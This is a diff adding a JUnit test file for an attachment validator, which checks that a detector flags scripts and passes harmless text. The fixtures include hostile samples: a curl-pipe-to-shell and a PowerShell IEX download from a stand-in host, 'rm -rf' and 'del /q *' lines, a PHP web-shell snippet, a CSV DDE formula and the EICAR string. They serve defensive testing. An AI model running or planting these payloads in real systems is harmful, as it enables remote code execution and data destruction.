@@ -1,0 +1,120 @@
+package io.attachrelay.validator.inspect.deep.script;
+
+import static java.nio.charset.StandardCharsets.UTF_16;
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.params.provider.Arguments.arguments;
+
+import io.attachrelay.validator.inspect.deep.DeepLook;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+class ScriptCheckTest {
+
+    static Stream<Arguments> scripts() {
+        return Stream.of(
+                arguments("shell", "#!/bin/sh\nls\n"),
+                arguments(
+                        "shell without its first line",
+                        "x=$(id)\nif [ -n \"$x\" ]; then\n  rm -rf /y\nfi\n"),
+                arguments("a download into a shell", "curl -s http://x.example/a | sh\n"),
+                arguments("batch", "@echo off\ndel /q *\n"),
+                arguments("batch behind a remark", "rem hello\n@ECHO OFF\ndel x\n"),
+                arguments(
+                        "batch without a switch",
+                        "set A=1\nif exist x goto end\ncopy a %TEMP%\n:end\n"),
+                arguments("powershell", "$c = New-Object Net.WebClient\n$c.DownloadString('x')\n"),
+                arguments(
+                        "powershell of cmdlets",
+                        "$a = 1\nGet-ChildItem C:\\\nRemove-Item x -Recurse\n"),
+                arguments("powershell in one line", "IEX (iwr http://x.example/a.ps1)"),
+                arguments("vbscript", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n"),
+                arguments("vbscript of subs", "Dim a\nSub Main()\nMsgBox \"x\"\nEnd Sub\n"),
+                arguments("jscript", "var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"),
+                arguments(
+                        "javascript",
+                        "const fs = require('fs');\nfunction a() {\n  return fs;\n}\nconsole.log(a());\n"),
+                arguments("python", "import os\nos.system('id')\n"),
+                arguments(
+                        "python of functions",
+                        "def a(x):\n    if x:\n        print(x)\n    return x\n"),
+                arguments("perl", "use strict;\nmy $x = 1;\nprint $x;\n"),
+                arguments("ruby", "require 'net/http'\nclass A\n  def b\n    puts 1\n  end\nend\n"),
+                arguments("php behind text", "Hello\n<?php system($_GET['x']); ?>\n"),
+                arguments("applescript", "tell application \"Finder\"\nempty trash\nend tell\n"),
+                arguments("a shortcut", "[InternetShortcut]\r\nURL=file://x/y.exe\r\n"),
+                arguments("a shortcut behind a remark", "; x\r\n[InternetShortcut]\r\nURL=x\r\n"),
+                arguments(
+                        "a desktop's entry", "[Desktop Entry]\nType=Application\nExec=sh -c id\n"),
+                arguments("autorun", "[AutoRun]\r\nopen=x.exe\r\n"),
+                arguments(
+                        "a registry file",
+                        "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_X]\r\n"),
+                arguments("a query of a table", "WEB\r\n1\r\nhttp://x.example/a\r\n"),
+                arguments("a formula", "name,sum\nAnna,=cmd|'/c calc'!A1\n"),
+                arguments("the test file of antivirus programs", eicar()));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("scripts")
+    void a_script_is_noticed(String name, String text) {
+        assertThat(DeepLook.codes(text.getBytes(UTF_8))).containsAnyOf("script", "executable");
+    }
+
+    @Test
+    void a_script_in_wide_characters_is_noticed() {
+        assertThat(DeepLook.codes("@echo off\ndel x\n".getBytes(UTF_16))).contains("script");
+    }
+
+    static Stream<Arguments> harmless() {
+        return Stream.of(
+                arguments(
+                        "a letter",
+                        "Dear Anna,\n\nif you set the date, call me.\nStart on Monday.\n\nJohn\n"),
+                arguments(
+                        "a letter that begins like a program",
+                        "MZ is short for Max Zorin.\nYours, M.\n"),
+                arguments(
+                        "a letter that begins like a bitmap",
+                        "BMW sent me this bill; is it right?\n"),
+                arguments(
+                        "a letter that begins like a mail", "Date: Monday\nI can come at nine.\n"),
+                arguments(
+                        "a list",
+                        "Import of goods\nclass A: 12\nfor sale in May:\n- tables\n- chairs\n"),
+                arguments(
+                        "a log",
+                        "2026-11-26 12:00:01 INFO start /a: done\n2026-11-26 12:00:02 WARN x=1\n"),
+                arguments("settings", "[server]\nport=80\nname=\"a\"\n[client]\nretries=3\n"),
+                arguments("yaml", "version: 2\nupdates:\n  - package: npm\n    for: all\n"),
+                arguments("a table", "name;sum\nAnna;-12\nBen;+3\n"),
+                arguments("a table of formulas", "a,b\n1,=A2+1\n2,=SUM(A2:A3)\n"),
+                arguments("styles", "body {\n  color: red;\n}\na:hover { color: blue; }\n"),
+                arguments(
+                        "java",
+                        "import a.B;\n\npublic class C {\n  int d() {\n    return 1;\n  }\n}\n"),
+                arguments(
+                        "rust", "fn main() {\n    let x = a::b();\n    println!(\"{}\", x);\n}\n"),
+                arguments(
+                        "a recipe that quotes a line",
+                        "To see the files, open a window and type this:\n"
+                                + "\nimport os\n\nand then the next line of this mail.\nIt prints all names there are.\n"),
+                arguments(
+                        "a German letter",
+                        "Sehr geehrte Frau Müller,\ndie Rechnung = 12 EUR; siehe Anlage.\n"));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("harmless")
+    void what_nobody_runs_is_no_script(String name, String text) {
+        assertThat(DeepLook.codes(text.getBytes(UTF_8))).isEmpty();
+    }
+
+    /** In two parts, so that no antivirus takes this file for one. */
+    private static String eicar() {
+        return "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
+    }
+}
